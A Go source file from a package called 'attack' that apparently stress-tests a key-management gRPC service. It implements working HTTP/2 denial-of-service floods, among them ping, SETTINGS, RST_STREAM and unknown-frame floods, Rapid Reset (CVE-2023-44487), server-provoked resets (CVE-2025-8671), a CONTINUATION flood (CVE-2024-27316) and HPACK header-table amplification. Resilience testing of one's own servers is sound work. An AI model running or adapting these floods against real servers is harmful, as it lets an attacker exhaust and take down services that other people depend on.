package attack

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"

	keysvcv1 "github.com/scribe-mail/keysvc/gen/keysvc/v1"
)

// flood writes the same frames again and again on every connection. prepare is called for each
// connection, and returns a function that writes some frames; these have so many bytes of data.
func (r *Run) flood(ctx context.Context, connections, data int, manner manner, prepare func(c *conn, random *rand.Rand) (func() error, error)) {
	r.crowd(ctx, connections, func(ctx context.Context, random *rand.Rand) error {
		c, err := r.connect(ctx, random, manner)
		if err != nil {
			return err
		}
		defer c.Close()
		frames, err := prepare(c, random)
		if err != nil {
			return err
		}
		for ctx.Err() == nil && c.await(data) {
			if err := c.write(frames); err != nil {
				return err
			}
		}
		return errEnded
	})
}

// repeated returns a function that writes equal frames, which are encoded once.
func repeated(c *conn, write func(framer *http2.Framer) error) (func() error, error) {
	var frame bytes.Buffer
	framer := http2.NewFramer(&frame, nil)
	framer.AllowIllegalWrites = true
	if err := write(framer); err != nil {
		return nil, err
	}
	frames := bytes.Repeat(frame.Bytes(), 1+16<<10/frame.Len())
	return func() error {
		_, err := c.out.Write(frames)
		return err
	}, nil
}

// floodOf is an attack with equal frames on no stream.
func floodOf(write func(framer *http2.Framer) error) func(context.Context, *Run) {
	return func(ctx context.Context, r *Run) {
		r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) { return repeated(c, write) })
	}
}

// floodOn is an attack with equal frames on a stream that is open. When the stream ends, a new
// connection has a new one.
func floodOn(manner manner, write func(framer *http2.Framer, stream uint32) error) func(context.Context, *Run) {
	return func(ctx context.Context, r *Run) {
		headers := r.headers(keysvcv1.SyncService_Sync_FullMethodName)
		r.crowd(ctx, 4, func(ctx context.Context, random *rand.Rand) error {
			var over atomic.Bool
			manner := manner
			manner.ended = func(uint32) { over.Store(true) }
			c, err := r.connect(ctx, random, manner)
			if err != nil {
				return err
			}
			defer c.Close()
			stream, err := c.call(headers, nil, false)
			if err != nil {
				return err
			}
			frames, err := repeated(c, func(framer *http2.Framer) error { return write(framer, stream) })
			for err == nil && ctx.Err() == nil && !c.isGone() && !over.Load() {
				err = c.write(frames)
			}
			return err
		})
	}
}

var (
	pings    = floodOf(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{1}) })
	settings = floodOf(func(f *http2.Framer) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
	settingsAcks  = floodOf(func(f *http2.Framer) error { return f.WriteSettingsAck() })
	priorities    = floodOf(func(f *http2.Framer) error { return f.WritePriority(1, http2.PriorityParam{Weight: 1}) })
	unknownFrames = floodOf(func(f *http2.Framer) error { return f.WriteRawFrame(0xbe, 0, 0, nil) })
	largeUnknown  = floodOf(func(f *http2.Framer) error { return f.WriteRawFrame(0xbe, 0, 0, make([]byte, 16<<10)) })
	goAways       = floodOf(func(f *http2.Framer) error { return f.WriteGoAway(0, http2.ErrCodeNo, []byte("goodbye")) })
	strayResets   = floodOf(func(f *http2.Framer) error { return f.WriteRSTStream(1, http2.ErrCodeCancel) })

	windowUpdates = floodOn(manner{window: 1000, narrow: true}, func(f *http2.Framer, stream uint32) error {
		if err := f.WriteWindowUpdate(0, 1); err != nil {
			return err
		}
		return f.WriteWindowUpdate(stream, 1)
	})
	emptyData  = floodOn(manner{window: maxWindow}, func(f *http2.Framer, stream uint32) error { return f.WriteData(stream, false, nil) })
	paddedData = floodOn(manner{window: maxWindow}, func(f *http2.Framer, stream uint32) error {
		return f.WriteDataPadded(stream, false, nil, make([]byte, 255))
	})
)

// windowSettings moves the initial window up and down while many streams are open, so that each
// SETTINGS costs work for each stream.
func windowSettings(ctx context.Context, r *Run) {
	headers := r.headers(keysvcv1.SyncService_Sync_FullMethodName)
	r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
		err := c.write(func() error {
			for range 900 {
				if _, err := c.open(headers, false); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
		return repeated(c, func(f *http2.Framer) error {
			for _, size := range []uint32{0, 1 << 20} {
				if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size}); err != nil {
					return err
				}
			}
			return nil
		})
	})
}

// rapidResets opens calls and resets them at once: CVE-2023-44487.
func rapidResets(method string, message []byte) func(context.Context, *Run) {
	return func(ctx context.Context, r *Run) {
		headers := r.headers(method)
		r.flood(ctx, 4, 64*len(message), manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
			return func() error {
				for range 64 {
					stream, err := c.open(headers, false)
					if err != nil {
						return err
					}
					if len(message) > 0 {
						_ = c.data(stream, message, true)
					}
					if err := c.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			}, nil
		})
	}
}

// madeResets makes the server reset each call, with a window update of 0: CVE-2025-8671.
func madeResets(ctx context.Context, r *Run) {
	headers := r.headers(keysvcv1.KeyService_ListKeys_FullMethodName)
	list := r.wholeList()
	r.flood(ctx, 4, 32*len(list), manner{window: maxWindow, generous: true}, func(c *conn, _ *rand.Rand) (func() error, error) {
		return func() error {
			for range 32 {
				stream, err := c.open(headers, false)
				if err != nil {
					return err
				}
				_ = c.data(stream, list, true)
				if err := c.framer.WriteWindowUpdate(stream, 0); err != nil {
					return err
				}
			}
			return nil
		}, nil
	})
}

// refusedStreams opens more streams than a connection may have open, so that the server refuses each
// further one.
func refusedStreams(ctx context.Context, r *Run) {
	headers := r.headers(keysvcv1.SyncService_Sync_FullMethodName)
	r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
		return func() error {
			for range 64 {
				if _, err := c.open(headers, false); err != nil {
					return err
				}
			}
			return nil
		}, nil
	})
}

// continuations begins a header block that never ends: CVE-2024-27316. Empty frames cost the
// server work, and no memory.
func continuations(value string) func(context.Context, *Run) {
	return func(ctx context.Context, r *Run) {
		headers := r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName)
		var fragment []byte
		if value != "" {
			fragment = r.headers("/x", "x-filler", value)
		}
		r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
			stream := c.next
			c.next += 2
			if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers}); err != nil {
				return nil, err
			}
			return repeated(c, func(f *http2.Framer) error { return f.WriteContinuation(stream, false, fragment) })
		})
	}
}

// manyFields sends calls with as many small header fields as possible, and largeFields calls with
// few that are large. references name one entry of the dynamic table many times, so that a small
// block becomes a large list.
func manyFields(ctx context.Context, r *Run) {
	var fields []string
	for i := range 400 {
		fields = append(fields, fmt.Sprintf("x-%d", i), "1")
	}
	r.headerFlood(ctx, r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName, fields...))
}

func largeFields(ctx context.Context, r *Run) {
	r.headerFlood(ctx, r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName, "x-large", strings.Repeat("x", 200<<10)))
}

func largestFields(ctx context.Context, r *Run) {
	r.headerFlood(ctx, r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName, "x-large", strings.Repeat("x", 15<<10)))
}

func references(ctx context.Context, r *Run) {
	headers := r.headers(keysvcv1.ValidationService_ValidateKey_FullMethodName)
	// A literal with incremental indexing (RFC 7541, section 6.2.1), and then its index, 62.
	value := strings.Repeat("y", 3000)
	literal := append([]byte{0x40, 1, 'y', 0x7f}, byte((len(value)-127)&0x7f|0x80), byte((len(value)-127)>>7))
	literal = append(literal, value...)
	block := slices.Concat(headers, literal, bytes.Repeat([]byte{0x80 | 62}, 12000))
	r.headerFlood(ctx, block)
}

// headerFlood sends calls with a header block, in as many frames as it needs.
func (r *Run) headerFlood(ctx context.Context, block []byte) {
	const size = 16 << 10
	r.flood(ctx, 4, 0, manner{window: maxWindow}, func(c *conn, _ *rand.Rand) (func() error, error) {
		return func() error {
			stream := c.next
			c.next += 2
			c.run.Counted.Streams.Add(1)
			rest := block
			first := true
			for first || len(rest) > 0 {
				n := min(size, len(rest))
				fragment := rest[:n]
				rest = rest[n:]
				var err error
				if first {
					err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fragment, EndStream: true, EndHeaders: len(rest) == 0})
				} else {
					err = c.framer.WriteContinuation(stream, len(rest) == 0, fragment)
				}
				if err != nil {
					return err
				}
				first = false
			}
			return nil
		}, nil
	})
}
